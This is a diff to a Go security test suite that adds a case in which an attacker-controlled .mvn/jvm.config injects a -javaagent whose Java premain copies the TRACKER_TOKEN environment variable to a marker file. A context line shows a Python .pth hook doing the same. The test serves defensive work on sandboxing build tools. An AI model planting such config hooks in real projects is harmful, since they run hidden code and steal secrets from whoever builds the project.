@@ -266,6 +266,35 @@ func TestA39ServerRunsAttackerCodeEndToEnd(t *testing.T) {
 			a39Fifo(t, filepath.Join(g, sp, "zz_evil.pth"), fmt.Sprintf("import os; open(%q, 'w').write(os.environ.get('TRACKER_TOKEN', ''))\n", marker))
 		},
 		need: "/usr/bin/python3.11",
+	}, {
+		// mvn (the shell script Maven ships) takes the first folder from
+		// the working folder UP with a .mvn folder as the project's base
+		// and puts its .mvn/jvm.config, unquoted, on java's command line:
+		// -javaagent runs the attacker's class before Maven's main. Neither
+		// .mvn nor pom.xml is a ProjectMarker or among ancestorNames.
+		name: "mvn (cwd PROJECT): GRANTED/.mvn/jvm.config -javaagent",
+		files: map[string]string{
+			"srv/pom.xml": "<project><modelVersion>4.0.0</modelVersion><groupId>x</groupId><artifactId>srv</artifactId><version>1</version></project>\n",
+		},
+		block: func(g string) (string, []string, map[string]string, string) {
+			return "mvn", []string{"-q", "-o", "validate"}, nil, filepath.Join(g, "srv")
+		},
+		attack: func(t *testing.T, g, marker string) {
+			a39Write(t, g, map[string]string{
+				".evil/A.java":       fmt.Sprintf("public class A { public static void premain(String a) { try { java.nio.file.Files.writeString(java.nio.file.Path.of(%q), System.getenv().getOrDefault(\"TRACKER_TOKEN\", \"\")); } catch (Exception e) {} } }\n", marker),
+				".evil/manifest.txt": "Premain-Class: A\n",
+				".mvn/jvm.config":    "-javaagent:{G}/.evil/a.jar\n",
+			})
+			dir := filepath.Join(g, ".evil")
+			for _, c := range [][]string{{"javac", "A.java"}, {"jar", "cfm", "a.jar", "manifest.txt", "A.class"}} {
+				cmd := exec.Command(c[0], c[1:]...)
+				cmd.Dir = dir
+				if out, err := cmd.CombinedOutput(); err != nil {
+					t.Fatalf("%v: %v\n%s", c, err, out)
+				}
+			}
+		},
+		need: "mvn",
 	}}
 	a39Run(t, cases)
 }
